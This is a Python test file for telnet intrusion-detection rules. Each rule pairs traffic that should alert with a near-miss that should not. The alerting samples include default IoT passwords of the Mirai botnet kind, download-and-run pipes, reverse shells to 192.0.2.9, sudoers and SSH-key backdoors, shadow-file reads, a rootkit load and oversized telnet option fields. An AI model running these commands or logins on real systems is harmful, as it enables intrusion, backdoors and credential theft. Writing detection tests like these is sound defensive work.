"""rules/sets/hangu-telnet.rules: what makes each rule alert, and what is like it and must not."""
from scripts import Script, environ, telnet, typed

DENIED = Script(23, [(1, b'\r\nlogin: ')] + [(0, b'anna\r\n'), (1, b'Password: '), (0, b'x\r\n'), (1, b'\r\nLogin incorrect\r\nlogin: ')] * 6)
DENIED_ONCE = Script(23, [(1, b'\r\nlogin: '), (0, b'anna\r\n'), (1, b'Password: '), (0, b'x\r\n'), (1, b'\r\nLogin incorrect\r\nlogin: ')])
IAC, SB, SE = b'\xff', b'\xff\xfa', b'\xff\xf0'


def sent(data):
	return Script(23, [(1, b'\xff\xfd\x18'), (0, data), (1, b'\r\nlogin: ')])


def variables(count):
	return sent(SB + b'\x27\0' + b''.join(b'\0A%d\1x' % i for i in range(count)) + SE)


CASES = {
	8610001: (typed(b'ls'), typed(b'ls')),
	8610002: (telnet(b'root', b'x'), telnet(b'rooty', b'x')),
	8610003: (DENIED, DENIED_ONCE),
	8610004: (environ(b'USER', b'-f root'), environ(b'USER', b'anna-f')),
	8610005: (environ(b'LD_PRELOAD', b'/tmp/a.so'), environ(b'LANG', b'zh_CN.UTF-8')),
	8610006: (telnet(b'admin', b'xc3511'), telnet(b'admin', b'xc35119')),
	8610007: (telnet(b'admin', b'vizxv'), telnet(b'admin', b'vizxvi')),
	8610008: (telnet(b'admin', b'7ujMko0admin'), telnet(b'admin', b'a7ujMko')),
	8610009: (telnet(b'admin', b'Zte521'), telnet(b'admin', b'zte-521')),
	8610010: (telnet(b'admin', b'juantech'), telnet(b'admin', b'juantechs')),
	8610011: (typed(b'/bin/busybox ECCHI'), typed(b'/bin/busybox ls -l')),
	8610012: (typed(b"echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > a"), typed(b"echo -ne '\\x7f\\x45'")),
	8610013: (typed(b'tftp -g -r mips 192.0.2.9'), typed(b'man tftp ')),
	8610101: (typed(b'useradd -o -u 0 eve'), typed(b'useradd --help')),
	8610102: (typed(b'chmod +s /tmp/a'), typed(b'chmod 0755 /tmp/a')),
	8610103: (typed(b'iptables -F'), typed(b'iptables -L -n')),
	8610104: (typed(b'history -c'), typed(b'history 20')),
	8610105: (typed(b'curl -s http://192.0.2.9/a.sh | sh'), typed(b'curl -s http://192.0.2.9/a.txt | sort')),
	8610106: (typed(b'echo aWQ= | base64 -d | bash'), typed(b'base64 -d a.b64 > a.bin')),
	8610107: (typed(b'crontab -e'), typed(b'crontab -l')),
	8610108: (typed(b'rm -rf /var'), typed(b'rm -rf /tmp/build')),
	8610109: (typed(b'systemctl stop firewalld'), typed(b'systemctl status firewalld')),
	8610110: (typed(b'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1'), typed(b'ls /dev/tty')),
	8610111: (typed(b'nc 192.0.2.9 4444 -e /bin/sh'), typed(b'nc -v 192.0.2.9 80')),
	8610112: (typed(b'echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys'), typed(b'cat ~/.ssh/authorized_keys')),
	8610113: (typed(b'cat /etc/shadow'), typed(b'cat /etc/services')),
	8610114: (typed(b'echo /tmp/a.so > /etc/ld.so.preload'), typed(b'cat /etc/ld.so.conf')),
	8610115: (typed(b'insmod rootkit.ko'), typed(b'lsmod')),
	8610116: (typed(b"echo 'eve ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"), typed(b'grep NOPASSWD notes.txt')),
	8610117: (typed(b'docker run -it --privileged alpine sh'), typed(b'docker run -d -v /data:/data nginx')),
	8610118: (typed(b'kubectl exec -it web-0 -- /bin/sh'), typed(b'kubectl get pods')),
	8610119: (typed(b'nsenter -t 1 -m -u -n sh'), typed(b'nsenter -t 4711 -n ip a')),
	8610120: (typed(b'curl 169.254.169.254/latest/meta-data/'), typed(b'ping 169.254.0.1')),
	8610201: (sent(IAC + b'\7x\r\n'), sent(IAC + b'\xf1x\r\n')),
	8610202: (sent(SB + b'\x18\0' + b'x' * 1100 + SE), sent(SB + b'\x18\0xterm' + SE)),
	8610203: (sent(SB + b'\x18\0vt100' + IAC + b'\xfb\x18'), sent(SB + b'\x18\0vt100' + SE)),
	8610204: (sent(b'a' * 5000 + b'\r\n'), sent(b'a' * 500 + b'\r\n')),
	8610205: (sent(b''.join(IAC + b'\xfb' + bytes([i]) for i in range(60, 140))), sent(IAC + b'\xfb\x18')),
	8610206: (variables(40), variables(5)),
	8610207: (sent(SB + b'\x27\0\1x' + SE), variables(1)),
	8610208: (environ(b'A', b'-x'), environ(b'A', b'x-')),
	8610209: (environ(b'IFS', b'x'), environ(b'TERM', b'x')),
	8610210: (sent(SB + b'\x26\7' + b'k' * 80 + SE), sent(SB + b'\x26\7kk' + SE)),
	8610211: (sent(SB + b'\x22\3' + b'\1\2\3' * 60 + SE), sent(SB + b'\x22\3\1\2\3' + SE)),
}
